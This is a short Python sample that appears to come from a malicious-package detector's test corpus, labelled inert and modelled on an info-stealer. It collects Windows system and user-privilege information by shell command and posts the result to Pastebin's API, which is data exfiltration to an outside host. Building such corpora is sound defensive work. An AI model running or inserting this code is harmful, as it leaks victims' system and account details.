# pkgguard corpus 191 (system-information), modelled on [stealer-profile]; inert, never run.
import subprocess
import urllib.parse
import urllib.request

report = subprocess.check_output("systeminfo & whoami /all", shell=True, text=True)
data = urllib.parse.urlencode({"api_dev_key": "placeholder", "api_option": "paste", "api_paste_code": report}).encode()
urllib.request.urlopen("https://pastebin.com/api/api_post.php", data=data)
